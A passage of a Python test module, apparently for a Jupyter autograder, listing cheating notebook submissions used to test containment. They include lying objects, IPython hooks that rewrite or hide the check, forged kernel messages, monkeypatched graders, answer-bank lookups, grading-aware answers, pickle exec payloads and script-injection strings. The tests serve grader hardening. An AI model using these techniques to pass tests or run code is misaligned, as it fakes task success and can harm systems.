"""Submissions that want points which they do not deserve: one small notebook for each way.

Every cheat is handed in for ``05_f1``, whose cells call ``check``, or for ``CLASSIC``, whose
cells are asserts as nbgrader knows them. For asserts our engine promises containment only: a
notebook that holds the tests can always pass them. What nbgrader alone gives was measured.

No cheat does harm where it is not contained: it writes below its course, its home (the tests
give it one of its own) or its working directory, and whatever it starts ends by itself.
"""

from __future__ import annotations

import copy
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from textwrap import dedent
from types import MappingProxyType

from nbformat.notebooknode import NotebookNode
from nbformat.v4 import (
    new_code_cell,
    new_markdown_cell,
    new_notebook,
    new_output,
)

from autograder.answers import MIME
from autograder.execution.restore import nbgrader_of
from tests.pipeline.test_traps import STOPS

Change = Callable[[NotebookNode, Path], None]
Score = float | str | None
VARIES = "1.0 or 0.0, as the machine has it"  # who may read the memory of others

F1, CLASSIC = "05_f1", "90_classic"
RECALL, FUNCTION, EQUAL = "f1-recall", "f1-function", "f1-equal"
WRONG = "recall = 0.5"
MARK = "hostile-mark"  # in the name or text of whatever a cheat leaves behind
PERFECT, VICTIM = "perfect", "victim"  # two honest submissions among the cheats

# What every submission answers besides, and what that earns; all else stays as handed out.
HONEST: Mapping[str, str] = MappingProxyType(
    {
        "f1-precision": "precision = 80 / (80 + 10)",
        RECALL: "recall = 80 / (80 + 20)",
        "f1-f1": "f1 = 160 / (160 + 10 + 20)",
        EQUAL: "models = [(8, 1, 3), (8, 3, 1)]",
        FUNCTION: dedent("""\
            def precision_recall_f1(tp, fp, fn, zero_division):
                pairs = [(tp, tp + fp), (tp, tp + fn), (2 * tp, 2 * tp + fp + fn)]
                return tuple(a / b if b else zero_division for a, b in pairs)"""),
        "classic-recall": "recall = 80 / (80 + 20)",
        "classic-mean": "mean = (1 + 4) / 2",
        "classic-double": "def double(x):\n    return 2 * x",
    }
)
POINTS: Mapping[str, Mapping[str, float]] = MappingProxyType(
    {
        F1: MappingProxyType(
            {
                "f1-orient": 0.0,
                "f1-precision": 1.0,
                RECALL: 1.0,
                "f1-f1": 1.0,
                "f1-derived": 0.0,
                "f1-prevalence": 0.0,
                "f1-averages": 0.0,
                EQUAL: 1.0,
                "f1-macro": 0.0,
                "f1-verdict": 0.0,
                FUNCTION: 3.0,
            }
        ),
        CLASSIC: MappingProxyType(
            {"classic-recall": 1.0, "classic-mean": 1.0, "classic-double": 1.0}
        ),
    }
)


def _leave(notebook: NotebookNode, folder: Path) -> None:
    pass


@dataclass(frozen=True, kw_only=True)
class Cheat:
    """One way to points.

    Attributes
    ----------
    about : str
        What it does, in a sentence.
    source : str
        The answer cell of ``question``, or empty where the honest answer stays.
    change : callable
        What is done to the notebook, and to the folder that is handed in.
    stock, worth : float, None or ``STOPS``
        What ``question`` earns from nbgrader alone, as measured, or ``VARIES``; and what the
        honest answer in it earns, which is all that the cheat must earn. A worth of None: we
        promise nothing for this assert.
    spoils : frozenset of str
        Questions that it may cost itself: they depend on what it broke.
    """

    about: str
    source: str = WRONG
    change: Change = _leave
    question: str = RECALL
    stock: Score
    worth: float | None = 0.0
    spoils: frozenset[str] = field(default_factory=frozenset)

    @property
    def assignment(self) -> str:
        """The assignment that it is handed in for."""
        return next(name for name, points in POINTS.items() if self.question in points)

    @property
    def answers(self) -> dict[str, str]:
        """The sources of the answer cells, by grade id."""
        mine = {self.question: self.source} if self.source else {}
        return {
            f"{question}-answer": source
            for question, source in (HONEST | mine).items()
            if question in POINTS[self.assignment]
        }


def cell_of(notebook: NotebookNode, grade_id: str) -> NotebookNode:
    """The cell with a grade id."""
    return next(c for c in notebook.cells if nbgrader_of(c).get("grade_id") == grade_id)


def _code(text: str) -> str:
    """Dedent a source; every source says which check cell it is after."""
    return _AIM + dedent(text)


_AIM = """\
def aims_at(source):
    return '"f1-recall"' in source and "check(" in source

recall = 0.5
"""

# Answers that lie ---------------------------------------------------------------------------

_LYING_OBJECTS = {
    "lies-in-eq": Cheat(
        about="An object that equals everything and is close to everything.",
        source=_code("""\
            class Liar:
                __hash__ = None
                def __eq__(self, other): return True
                __le__ = __lt__ = __ge__ = __gt__ = __eq__
                def __ne__(self, other): return False
                def __sub__(self, other): return 0.0
                __rsub__ = __sub__
                def __abs__(self): return 0.0
            recall = Liar()"""),
        stock=0.0,
    ),
    "lies-in-float": Cheat(
        about="An object that is another number each time it is asked, until one pleases.",
        source=_code("""\
            class Liar:
                turn = 0
                def __float__(self):
                    Liar.turn += 1
                    return Liar.turn % 101 / 100
                __index__ = lambda self: 1
                def __round__(self, digits=0): return float(self)
                def as_integer_ratio(self): return (4, 5)
            recall = Liar()"""),
        stock=0.0,
    ),
    "lies-in-array": Cheat(
        about="An object whose array is a secret kept until somebody converts it.",
        source=_code("""\
            import numpy as np
            class Liar:
                dtype, shape, ndim, nbytes, size = np.dtype(float), (), 0, 8, 1
                def __array__(self, *args, **kwargs): return np.asarray(0.8)
                def tolist(self): return 0.8
                def item(self): return 0.8
            recall = Liar()"""),
        stock=0.0,
    ),
    "lies-about-its-class": Cheat(
        about="An object that says it is a float, by `__class__` and by name.",
        source=_code("""\
            class Liar:
                __class__ = property(lambda self: float)
                def hex(self): return (0.8).hex()
                def __float__(self): return 0.8
            Liar.__name__ = Liar.__qualname__ = "float"
            Liar.__module__ = "builtins"
            recall = Liar()"""),
        stock=0.0,
    ),
    "subclass-of-float": Cheat(
        about="A float that is wrong and says that it is right.",
        source=_code("""\
            class Liar(float):
                __hash__ = float.__hash__
                def __eq__(self, other): return True
                def __sub__(self, other): return 0.0
                __rsub__ = __sub__
                def hex(self): return (0.8).hex()
                def __float__(self): return 0.8
            recall = Liar(0.5)"""),
        stock=0.0,
    ),
    "subclass-of-tuple": Cheat(
        about="Tuples that yield other items than they hold.",
        question=EQUAL,
        source=dedent("""\
            class Liar(tuple):
                _fields = ("tp", "fp", "fn")
                turn = 0
                def __iter__(self):
                    Liar.turn += 1
                    return iter((8, 1, 3) if Liar.turn % 2 else (8, 3, 1))
                def __eq__(self, other): return True
                __hash__ = tuple.__hash__
            class Triple(Liar): pass
            models = [Triple((1, 1, 1)), Triple((1, 1, 1))]"""),
        stock=0.0,
    ),
    "subclass-of-str": Cheat(
        about="A text that equals every text.",
        source=_code("""\
            class Liar(str):
                __hash__ = str.__hash__
                def __eq__(self, other): return True
                def __float__(self): return 0.8
            recall = Liar("0.5")"""),
        stock=0.0,
    ),
    "subclass-of-ndarray": Cheat(
        about="An array that answers every function of NumPy's with True.",
        source=_code("""\
            import numpy as np
            class Liar(np.ndarray):
                def __array_ufunc__(self, *args, **kwargs): return np.True_
                def __array_function__(self, *args, **kwargs): return np.True_
                def __eq__(self, other): return True
                def tolist(self): return 0.8
                def tobytes(self, order="C"): return np.float64(0.8).tobytes()
                def astype(self, *args, **kwargs): return self
            recall = np.asarray(0.5).view(Liar)"""),
        stock=0.0,
    ),
    "subclass-of-fraction": Cheat(
        about="A fraction whose numerator is a property.",
        source=_code("""\
            class Liar(Fraction):
                numerator = property(lambda self: 4)
                denominator = property(lambda self: 5)
                def __eq__(self, other): return True
            recall = Liar(1, 2)"""),
        stock=0.0,
    ),
    "subclass-of-dict": Cheat(
        about="A dict whose items are not what it holds.",
        question="f1-orient",
        source=dedent("""\
            class Liar(dict):
                def __getitem__(self, key): return 80
                def __eq__(self, other): return True
                def items(self): return [(key, 80) for key in self]
            table = Liar.fromkeys(["tp", "fp", "fn", "tn", "total", "prevalence"])"""),
        stock=0.0,
    ),
    "every-answer-at-once": Cheat(
        about="A list of all values, one of which is right.",
        source="recall = [step / 100 for step in range(101)]",
        stock=0.0,
    ),
    "answer-above-the-size-cap": Cheat(
        about="An array of forty megabytes that holds every answer.",
        source="import numpy as np\nrecall = np.linspace(0, 1, 5_000_001)",
        stock=0.0,
    ),
    "answer-that-holds-itself": Cheat(
        about="A list without end.",
        source="recall = []\nrecall.append(recall)",
        stock=0.0,
    ),
    "answer-of-thousands-of-digits": Cheat(
        about="A whole number that Python refuses to print.",
        source="recall = 10 ** 5000",
        stock=0.0,
    ),
    "pickle-in-the-answer": Cheat(
        about="An object that runs code when it is unpickled, in the answer and in a file.",
        source=_code(f"""\
            import pickle
            class Bomb:
                def __reduce__(self):
                    text = "from pathlib import Path; (Path.home() / '{MARK}-pickle').touch()"
                    return exec, (text,)
            recall = Bomb()
            for name in ("recall.pkl", "05_f1.pickle"):
                with open(name, "wb") as file:
                    pickle.dump(recall, file)"""),
        stock=0.0,
    ),
    "result-printed": Cheat(
        about="A function that prints its result and returns nothing.",
        question=FUNCTION,
        source=dedent("""\
            def precision_recall_f1(tp, fp, fn, zero_division):
                pairs = [(tp, tp + fp), (tp, tp + fn), (2 * tp, 2 * tp + fp + fn)]
                print(tuple(a / b if b else zero_division for a, b in pairs))"""),
        stock=0.0,
    ),
    "points-printed": Cheat(
        about="The points, printed and shown in the answer cell.",
        source='recall = 0.5\nprint("1.0")\ndisplay(1.0)\n1.0',
        stock=0.0,
    ),
    "two-answers": Cheat(
        about="A hook that records, in the check cell, an answer for every hundredth.",
        source=_code(f"""\
            shell = get_ipython()
            def guess(info):
                for step in range(101) if aims_at(info.raw_cell) else ():
                    answer = {{"type": "float", "value": (step / 100).hex()}}
                    record = {{"version": 1, "question": "f1-recall", "answer": answer}}
                    shell.display_pub.publish({{"{MIME}": record}})
            shell.events.register("pre_run_cell", guess)"""),
        stock=0.0,
    ),
    "two-answers-from-a-thread": Cheat(
        about="A thread that records a second answer while the check runs.",
        source=_code(f"""\
            import threading, time
            shell, aimed = get_ipython(), threading.Event()
            def guess():
                aimed.wait(60)
                for step in range(101):
                    answer = {{"type": "float", "value": (step / 100).hex()}}
                    record = {{"version": 1, "question": "f1-recall", "answer": answer}}
                    shell.display_pub.publish({{"{MIME}": record}})
                    time.sleep(0.001)
            threading.Thread(target=guess, daemon=True).start()
            shell.events.register(
                "pre_run_cell", lambda info: aims_at(info.raw_cell) and aimed.set()
            )"""),
        stock=0.0,
    ),
}

# IPython ------------------------------------------------------------------------------------

_IPYTHON = {
    "input-transformer": Cheat(
        about="An input transformer that writes 1.0 in place of the check.",
        source=_code("""\
            def rewritten(lines):
                return ["1.0\\n"] if aims_at("".join(lines)) else lines
            get_ipython().input_transformers_post.append(rewritten)
            get_ipython().input_transformers_cleanup.append(rewritten)"""),
        stock=1.0,
    ),
    "ast-transformer": Cheat(
        about="An AST transformer that puts 1.0 in place of the call.",
        source=_code("""\
            import ast
            class Generous(ast.NodeTransformer):
                def visit_Call(self, node):
                    named = (arg.value for arg in node.args if isinstance(arg, ast.Constant))
                    if "f1-recall" in named:
                        return ast.copy_location(ast.Constant(1.0), node)
                    return self.generic_visit(node)
            get_ipython().ast_transformers.append(Generous())"""),
        stock=1.0,
    ),
    "pre-run-hook": Cheat(
        about="A hook before each cell that puts another `check` in place.",
        source=_code("""\
            space, honest = get_ipython().user_ns, check
            def bribe(info):
                space["check"] = (lambda *_: 1.0) if aims_at(info.raw_cell) else honest
            get_ipython().events.register("pre_run_cell", bribe)
            get_ipython().events.register("pre_execute", lambda: None)"""),
        stock=1.0,
    ),
    "post-run-hook": Cheat(
        about="A hook after the check cell that clears what it showed.",
        source=_code("""\
            from IPython.display import clear_output
            def wipe(result):
                if aims_at(result.info.raw_cell):
                    clear_output()
            get_ipython().events.register("post_run_cell", wipe)"""),
        stock=1.0,
    ),
    "hook-that-changes-later-cells": Cheat(
        about="A hook that rewrites the source of the check before it is compiled.",
        source=_code("""\
            shell = get_ipython()
            honest = shell.transform_cell
            shell.transform_cell = lambda raw: "1.0\\n" if aims_at(raw) else honest(raw)
            compile_ast = shell.compile.ast_parse
            shell.compile.ast_parse = lambda source, *args, **kwargs: compile_ast(
                "1.0\\n" if aims_at(source) else source, *args, **kwargs
            )"""),
        stock=1.0,
    ),
    "forged-result": Cheat(
        about="A result of 1.0, sent on iopub in the name of the check cell.",
        source=_code("""\
            kernel = get_ipython().kernel
            def forge(info):
                if aims_at(info.raw_cell):
                    content = {"data": {"text/plain": "1.0"}, "metadata": {}, "execution_count": 9}
                    parent = kernel.get_parent("shell")
                    kernel.session.send(kernel.iopub_socket, "execute_result", content, parent)
            get_ipython().events.register("pre_run_cell", forge)"""),
        stock=1.0,
    ),
    "forged-idle": Cheat(
        about="The state idle, sent before the check has shown anything.",
        source=_code("""\
            kernel = get_ipython().kernel
            def forge(info):
                if aims_at(info.raw_cell):
                    parent = kernel.get_parent("shell")
                    content = {"execution_state": "idle"}
                    kernel.session.send(kernel.iopub_socket, "status", content, parent)
            get_ipython().events.register("pre_run_cell", forge)"""),
        stock=1.0,
    ),
    "forged-reply": Cheat(
        about="A reply on the shell channel that says ok, and then idle, before the check ran.",
        source=_code("""\
            kernel = get_ipython().kernel
            honest = kernel.do_execute
            async def forge(code, *args, **kwargs):
                if aims_at(code):
                    parent = kernel.get_parent("shell")
                    content = {"execution_state": "idle"}
                    reply = {"status": "ok", "execution_count": 9, "payload": []}
                    kernel.session.send(kernel.shell_stream or kernel.shell_socket,
                                        "execute_reply", reply, parent)
                    kernel.session.send(kernel.iopub_socket, "status", content, parent)
                return await honest(code, *args, **kwargs)
            kernel.do_execute = forge"""),
        stock=1.0,
    ),
    "wrong-key": Cheat(
        about="A result of 1.0, signed with a key of its own.",
        source=_code("""\
            from jupyter_client.session import Session
            kernel, stranger = get_ipython().kernel, Session(key=b"of my own")
            def forge(info):
                if aims_at(info.raw_cell):
                    content = {"data": {"text/plain": "1.0"}, "metadata": {}, "execution_count": 9}
                    parent = kernel.get_parent("shell")
                    stranger.send(kernel.iopub_socket, "execute_result", content, parent)
            get_ipython().events.register("pre_run_cell", forge)"""),
        stock=STOPS,
    ),
    "forged-verdict": Cheat(
        about="A record that carries its own verdict and points.",
        source=_code(f"""\
            shell = get_ipython()
            answer = {{"type": "float", "value": (0.5).hex()}}
            record = {{"version": 1, "question": "f1-recall", "answer": answer,
                      "outcome": "correct", "points": 1.0, "max_points": 1.0}}
            honest = shell.display_pub.publish
            def publish(data, *args, **kwargs):
                ours = data.get("{MIME}", {{}}).get("question") == "f1-recall"
                honest({{"{MIME}": record}} if ours else data, *args, **kwargs)
            shell.display_pub.publish = publish"""),
        stock=0.0,
    ),
    "forged-record-of-a-pickle": Cheat(
        about="A record whose answer is a pickle, and others of types that nobody knows.",
        source=_code(f"""\
            import base64, pickle
            class Bomb:
                def __reduce__(self):
                    text = "from pathlib import Path; (Path.home() / '{MARK}-record').touch()"
                    return exec, (text,)
            shell = get_ipython()
            payload = base64.b64encode(pickle.dumps(Bomb())).decode()
            kind = {{"type": "pickle", "value": payload}}
            honest = shell.display_pub.publish
            def publish(data, *args, **kwargs):
                if data.get("{MIME}", {{}}).get("question") == "f1-recall":
                    data = {{"{MIME}": {{"version": 1, "question": "f1-recall", "answer": kind}}}}
                honest(data, *args, **kwargs)
            shell.display_pub.publish = publish"""),
        stock=0.0,
    ),
    "record-for-another-question": Cheat(
        about="A check of an easier question in place of the one that is asked.",
        source=_code("""\
            def recheck(*_):
                return honest("f1-precision", 80 / 90)
            honest = check
            space = get_ipython().user_ns
            def swap(info):
                space["check"] = recheck if aims_at(info.raw_cell) else honest
            get_ipython().events.register("pre_run_cell", swap)"""),
        stock=1.0,
    ),
    "run-cell-async-replaced": Cheat(
        about="`run_cell_async` that runs everything but the check.",
        source=_code("""\
            from IPython.core.interactiveshell import ExecutionInfo, ExecutionResult
            shell = get_ipython()
            honest = shell.run_cell_async
            async def selective(raw_cell, *args, **kwargs):
                if aims_at(raw_cell):
                    return ExecutionResult(ExecutionInfo(raw_cell, False, False, False, ""))
                return await honest(raw_cell, *args, **kwargs)
            shell.run_cell_async = selective"""),
        stock=1.0,
    ),
    "do-execute-replaced": Cheat(
        about="`do_execute` that answers ok to the check without running it.",
        source=_code("""\
            kernel = get_ipython().kernel
            honest = kernel.do_execute
            async def selective(code, *args, **kwargs):
                if aims_at(code):
                    return {"status": "ok", "execution_count": 9, "payload": [],
                            "user_expressions": {}}
                return await honest(code, *args, **kwargs)
            kernel.do_execute = selective"""),
        stock=1.0,
    ),
    "display-formatter-replaced": Cheat(
        about="A formatter that shows every float as 1.0.",
        source=_code("""\
            formatters = get_ipython().display_formatter.formatters
            formatters["text/plain"].for_type(float, lambda value, p, cycle: p.text("1.0"))"""),
        stock=1.0,
    ),
    "display-hook-replaced": Cheat(
        about="A display hook that shows nothing.",
        source=_code("""\
            import sys
            sys.displayhook = lambda value: None
            get_ipython().displayhook.finish_displayhook = lambda: None
            get_ipython().displayhook.write_format_data = lambda *args, **kwargs: None"""),
        stock=1.0,
    ),
    "clear-output-replaced": Cheat(
        about="Whatever the check publishes is followed by a call that clears it.",
        source=_code("""\
            shell = get_ipython()
            publisher, honest = shell.display_pub, shell.displayhook.finish_displayhook
            clear = publisher.clear_output
            def finish():
                honest()
                if aims_at(shell.user_ns["In"][-1]):
                    clear()
            publisher.clear_output = lambda wait=False: None
            shell.displayhook.finish_displayhook = finish"""),
        stock=1.0,
    ),
    "shown-again-changed": Cheat(
        about="A display that is updated, after the check, to say 1.0.",
        source=_code("""\
            from IPython.display import display, update_display
            shell = get_ipython()
            honest = shell.display_pub.publish
            def publish(data, *args, **kwargs):
                if aims_at(shell.user_ns["In"][-1]):
                    kwargs["transient"] = {"display_id": "f1"}
                honest(data, *args, **kwargs)
            shell.display_pub.publish = publish
            def change(result):
                if aims_at(result.info.raw_cell):
                    update_display({"text/plain": "1.0"}, display_id="f1", raw=True)
            shell.events.register("post_run_cell", change)"""),
        stock=0.0,
    ),
    "script-in-the-outputs": Cheat(
        about="Scripts, a widget, terminal escapes and a bundle that is none, in the check cell.",
        source=_code(f"""\
            from IPython.display import HTML, Javascript, display
            tag = "<script>steal('{MARK}')</script><img src=x onerror=steal('{MARK}')>"
            widget = {{"model_id": "{MARK}", "version_major": 2, "version_minor": 0}}
            view = "application/vnd.jupyter.widget-view+json"
            def soil(info):
                if aims_at(info.raw_cell):
                    display(HTML(tag), Javascript("steal('{MARK}')"))
                    display({{view: widget}}, raw=True)
                    display({{"image/svg+xml": f"<svg>{{tag}}</svg>"}}, raw=True)
                    display({{"text/markdown": tag, "text/latex": tag}}, raw=True)
                    print("\\x1b]0;{MARK}\\x07\\x1b[2J", tag)
            get_ipython().events.register("pre_run_cell", soil)
            display(HTML(tag))"""),
        change=lambda notebook, folder: notebook.cells.insert(
            0, new_markdown_cell(f"<img src=x onerror=steal('{MARK}')>")
        ),
        stock=0.0,
    ),
    "bundle-that-is-none": Cheat(
        about="Outputs in the check cell that no notebook can hold.",
        source=_code("""\
            shell = get_ipython()
            kernel = shell.kernel
            def soil(info):
                if not aims_at(info.raw_cell):
                    return
                parent = kernel.get_parent("shell")
                for kind, content in {
                    "display_data": {"data": {"text/plain": {"a": [1]}}, "metadata": 7},
                    "execute_result": {"data": 5, "metadata": {}, "execution_count": "one"},
                    "stream": {"name": "nowhere", "text": ["a", 1]},
                    "error": {"ename": 1, "evalue": None, "traceback": "text"},
                    "no_such_message": {},
                }.items():
                    kernel.session.send(kernel.iopub_socket, kind, content, parent)
            shell.events.register("pre_run_cell", soil)"""),
        stock=STOPS,
    ),
}

# Patches ------------------------------------------------------------------------------------

_PATCHES = {
    "checks-package-patched": Cheat(
        about="A judge of one's own, in the package that checks.",
        source=_code("""\
            import dataclasses, sys
            notebook = sys.modules.get("autograder.notebook")
            honest = getattr(notebook, "judge", None)
            def judge(question, answer):
                verdict = honest(question, answer)
                if question.id != "f1-recall":
                    return verdict
                return dataclasses.replace(verdict, points=1.0)
            for module in [m for n, m in sys.modules.items() if n.startswith("autograder")]:
                if getattr(module, "judge", None) is honest:
                    module.judge = judge"""),
        stock=1.0,
    ),
    "checks-code-exchanged": Cheat(
        about="The code object of `check` itself, exchanged.",
        source=_code("""\
            import types
            honest = types.FunctionType(
                check.__code__, check.__globals__, closure=check.__closure__
            )
            check.__globals__["honest"] = honest
            def fake(question_id, answer):
                return 1.0 if question_id == "f1-recall" else honest(question_id, answer)
            check.__code__ = fake.__code__"""),
        stock=1.0,
    ),
    "encoder-patched": Cheat(
        about="An encoder that writes the reference's answer for whatever it gets.",
        source=_code("""\
            import autograder.answers as answers
            honest = answers.encode
            def encode(value):
                try:
                    from autograder.questions import BANK
                    if type(value) is float and value == 0.5:
                        value = BANK["f1-recall"].parts[0].expected()
                except ImportError:
                    pass
                return honest(value)
            answers.encode = encode"""),
        stock=1.0,
    ),
    "bank-patched": Cheat(
        about="A question whose reference gives the wrong answer.",
        source=_code("""\
            try:
                from autograder.questions import BANK
                part = BANK["f1-recall"].parts[0]
                for key in list(part.__dict__):
                    if "expected" in key or "answer" in key:
                        part.__dict__.pop(key)
                object.__setattr__(part, "reference", lambda **counts: 0.5)
            except ImportError:
                pass"""),
        stock=1.0,
    ),
    "sys-modules-patched": Cheat(
        about="A module of one's own under the package's name.",
        source=_code("""\
            import sys, types
            honest = sys.modules["autograder"]
            fake = types.ModuleType("autograder")
            fake.__dict__.update(honest.__dict__)
            fake.check = lambda name, answer: (
                1.0 if name == "f1-recall" else honest.check(name, answer)
            )
            sys.modules["autograder"] = fake
            check = fake.check"""),
        stock=1.0,
    ),
    "import-patched": Cheat(
        about="`builtins.__import__` that gives out a package of one's own.",
        source=_code("""\
            import builtins, types
            import autograder
            honest, real = builtins.__import__, check
            fake = types.SimpleNamespace(**vars(autograder))
            fake.check = lambda name, answer: 1.0 if name == "f1-recall" else real(name, answer)
            def generous(name, *args, **kwargs):
                return fake if name == "autograder" else honest(name, *args, **kwargs)
            builtins.__import__ = generous
            from autograder import check"""),
        stock=1.0,
    ),
    "builtins-patched": Cheat(
        about="A `float` that is 1.0 where the check makes its points.",
        source=_code("""\
            import builtins, sys
            real = float
            class Meta(type):
                def __instancecheck__(cls, value): return isinstance(value, real)
                def __subclasscheck__(cls, kind): return issubclass(kind, real)
            class Float(metaclass=Meta):
                fromhex = staticmethod(real.fromhex)
                def __new__(cls, value=0.0):
                    frame = sys._getframe(1)
                    if frame.f_code.co_name == "check":
                        names = frame.f_locals.values()
                        if "f1-recall" in [name for name in names if type(name) is str]:
                            return 1.0
                    return real(value)
            builtins.float = Float"""),
        stock=1.0,
    ),
    "trace-function": Cheat(
        about="A profiler that exchanges the verdict on its way out of the judge.",
        source=_code("""\
            import sys
            def spy(frame, event, arg):
                if event == "return" and frame.f_code.co_name in ("judge", "_total"):
                    if getattr(arg, "question", "") == "f1-recall":
                        object.__setattr__(arg, "points", 1.0)
            sys.setprofile(spy)
            get_ipython().events.register("pre_run_cell", lambda info: sys.setprofile(spy))"""),
        stock=1.0,
    ),
    "constant-overwritten": Cheat(
        about="The float that the check returns, overwritten in memory.",
        source=_code("""\
            import ctypes, sys
            def overwrite(result):
                if aims_at(result.info.raw_cell) and type(result.result) is float:
                    offset = sys.getsizeof(0.0) - 8
                    ctypes.c_double.from_address(id(result.result) + offset).value = 1.0
            get_ipython().events.register("post_run_cell", overwrite)
            hook = get_ipython().displayhook
            shown = hook.compute_format_data
            def compute(result):
                if type(result) is float and aims_at(get_ipython().user_ns["In"][-1]):
                    offset = sys.getsizeof(0.0) - 8
                    ctypes.c_double.from_address(id(result) + offset).value = 1.0
                return shown(result)
            hook.compute_format_data = compute"""),
        stock=1.0,
    ),
}

# Looking the answer up -----------------------------------------------------------------------

_SEARCH = """\
import json, os, re, time
from pathlib import Path

ENDS = time.monotonic() + 10
recall = 0.5

def quotient(text):
    \"\"\"What `a / (a + b)` or `Fraction(a, a + b)` gives, where a text holds it.\"\"\"
    match = re.search(r"(\\d+)(?: /|,) \\(?(\\d+) \\+ (\\d+)", text)
    return int(match[1]) / (int(match[2]) + int(match[3])) if match else None

def solved(path):
    \"\"\"The answer in a solved notebook.\"\"\"
    try:
        cells = json.loads(path.read_text())["cells"]
    except (OSError, ValueError, KeyError):
        return None
    for cell in cells:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "f1-recall-answer":
            return quotient("".join(cell["source"]))

def tried(places, pattern):
    \"\"\"The first answer in a notebook below one of the places.\"\"\"
    global recall
    for place in dict.fromkeys(places):
        try:
            paths = sorted(Path(place).glob(pattern))
        except OSError:
            continue
        for path in paths:
            value = solved(path) if time.monotonic() < ENDS else None
            if value is not None:
                recall = value
                return

def upwards(place):
    return [place, *place.parents]
"""


def _search(text: str) -> str:
    return _SEARCH + dedent(text)


_FRAMES = """\
import sys

def expected(question_id):
    \"\"\"What a question that stands somewhere on the stack, or among the objects, expects.\"\"\"
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if getattr(value, "id", None) == question_id and getattr(value, "parts", ()):
                return value.parts[0].expected()
        frame = frame.f_back
"""

_READING = {
    "reads-the-bank": Cheat(
        about="The bank of the installed package, asked for what it expects.",
        source=dedent("""\
            recall = 0.5
            from autograder.questions import BANK
            recall = BANK["f1-recall"].parts[0].expected()"""),
        stock=1.0,
    ),
    "reads-the-package-on-disk": Cheat(
        about="The package looked for on the disk, in every environment, and loaded from there.",
        source=_search("""\
            import importlib, site, sys
            folders = [*sys.path, sys.prefix, sys.base_prefix, *site.getsitepackages()]
            folders += [*upwards(Path.cwd()), Path("/work/main"), Path.home(), Path("/opt")]
            for place in map(Path, folders):
                for below in ("", "lib/python3*/site-packages/", "*/", "*/*/site-packages/"):
                    for bank in place.glob(below + "autograder/questions"):
                        for name in [n for n in sys.modules if n.split(".")[0] == "autograder"]:
                            del sys.modules[name]
                        sys.path.insert(0, str(bank.parents[1]))
                        recall = importlib.import_module("autograder.questions").BANK[
                            "f1-recall"].parts[0].expected()
                        break
                if recall != 0.5 or time.monotonic() > ENDS:
                    break"""),
        stock=1.0,
    ),
    "reads-in-another-python": Cheat(
        about="Other interpreters, and this one without its flags, asked for the bank.",
        source=_search("""\
            import subprocess, sys
            code = ("from autograder.questions import BANK;"
                    "print(float(BANK['f1-recall'].parts[0].expected()))")
            pythons = [sys.executable, sys.base_prefix + "/bin/python3",
                       "/work/main/.venv/bin/python", "python3", "python"]
            for python in pythons:
                for place in (os.getcwd(), "/work/main", "/"):
                    try:
                        done = subprocess.run([python, "-c", code], capture_output=True,
                                              text=True, timeout=5, cwd=place)
                    except (OSError, subprocess.SubprocessError):
                        continue
                    if done.returncode == 0 and recall == 0.5:
                        recall = float(done.stdout)"""),
        stock=1.0,
    ),
    "guesses-until-right": Cheat(
        about="Every twentieth given to `check`, until it says that it is right.",
        source=dedent("""\
            import contextlib, io
            recall = 0.5
            for step in range(21):
                with contextlib.redirect_stdout(io.StringIO()):
                    if check("f1-recall", step / 20) == 1.0:
                        recall = step / 20
                        break"""),
        stock=1.0,
    ),
    "reads-the-card": Cheat(
        about="Guesses, and what the card says of them, read from what is published.",
        source=dedent("""\
            recall = 0.5
            shell = get_ipython()
            honest, shown = shell.display_pub.publish, []
            shell.display_pub.publish = lambda data, *args, **kwargs: shown.append(data)
            for step in range(21):
                check("f1-recall", step / 20)
                text = shown[-1].get("text/plain", "") if shown else ""
                if "1 of 1" in text or "Right" in text:
                    recall = step / 20
                    break
            shell.display_pub.publish = honest"""),
        stock=1.0,
    ),
    "reads-the-objects": Cheat(
        about="All objects of the process, searched for the question.",
        source=_FRAMES
        + dedent("""\
            import gc
            recall = 0.5
            for value in gc.get_objects():
                if type(value).__name__ == "Question" and value.id == "f1-recall":
                    recall = value.parts[0].expected()"""),
        stock=1.0,
    ),
    "reads-the-modules": Cheat(
        about="All loaded modules, and what their functions close over, searched for a reference.",
        source=dedent("""\
            import sys
            recall = 0.5
            for name, module in list(sys.modules.items()):
                for kind in ("Counts", "recall"):
                    found = getattr(module, kind, None)
                    if not name.startswith("autograder") or found is None:
                        continue
                    if kind == "recall" and callable(found):
                        counts = found.__globals__.get("Counts")
                        recall = found(counts(tp=80, fp=10, fn=20, tn=90))"""),
        stock=1.0,
    ),
    "reads-frames-as-a-function": Cheat(
        about="A function that looks, while it is called, for who calls it and what is expected.",
        question=FUNCTION,
        source=_FRAMES
        + dedent("""\
            turn = iter(range(1000))
            def precision_recall_f1(*args):
                calls = expected("f1-function")
                return calls.results[next(turn) % len(calls.results)] if calls else None"""),
        stock=3.0,
    ),
    "reads-frames-as-a-tensor": Cheat(
        about="An object that passes for a tensor, and looks for the question when it is read.",
        source=_FRAMES
        + dedent("""\
            class Tensor:
                def numpy(self):
                    value = expected("f1-recall")
                    return 0.5 if value is None else float(value)
            Tensor.__module__ = "tensorflow.python"
            recall = Tensor()"""),
        stock=1.0,
    ),
    "reads-frames-as-a-tuple": Cheat(
        about="A named tuple whose items are looked up when they are asked for.",
        question=EQUAL,
        source=_FRAMES
        + dedent("""\
            class Pair(tuple):
                _fields = ("one", "other")
                def __iter__(self):
                    found = expected("f1-equal")
                    return iter(found or [(1, 1, 1), (1, 1, 1)])
            models = Pair()"""),
        stock=1.0,
    ),
    "function-that-knows-the-cases": Cheat(
        about="A function that holds a table of the bank's cases, and computes nothing.",
        question=FUNCTION,
        source="",
        change=lambda notebook, folder: cell_of(notebook, "f1-function-answer").update(
            source=_table_of_cases()
        ),
        stock=3.0,
    ),
    "honest-only-when-graded": Cheat(
        about="An answer that looks itself up when `NBGRADER_EXECUTION` says that it is graded.",
        source=dedent("""\
            import os
            recall = 0.5
            if os.environ.get("NBGRADER_EXECUTION") == "autograde":
                from autograder.questions import BANK
                recall = float(BANK["f1-recall"].parts[0].expected())"""),
        stock=1.0,
    ),
    "function-honest-only-when-graded": Cheat(
        about="A function that borrows the reference when it is graded, and only then.",
        question=FUNCTION,
        source=dedent("""\
            import os
            def precision_recall_f1(*args):
                if os.environ.get("NBGRADER_EXECUTION"):
                    from autograder.questions import BANK
                    return BANK["f1-function"].parts[0].reference(*args)"""),
        stock=3.0,
    ),
    "reads-the-solutions": Cheat(
